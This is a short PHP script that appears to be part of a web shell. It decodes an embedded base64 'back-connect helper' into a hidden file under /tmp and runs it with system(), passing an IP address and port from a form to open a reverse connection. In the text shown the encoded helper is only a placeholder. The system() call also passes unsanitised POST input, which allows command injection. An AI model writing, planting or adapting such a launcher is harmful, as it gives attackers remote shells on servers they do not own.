<?php
// Writes a back-connect helper to /tmp and starts it with the form's address and port.
$helper = "IyEvdXNyL2Jpbi9wZXJsCiMgaGVscGVyIHBsYWNlaG9sZGVyCg==";
if (!empty($_POST['ip'])) {
    $fp = fopen("/tmp/.bc.pl", "w");
    fwrite($fp, base64_decode($helper));
    fclose($fp);
    system("perl /tmp/.bc.pl " . $_POST['ip'] . " " . $_POST['port'] . " &");
}
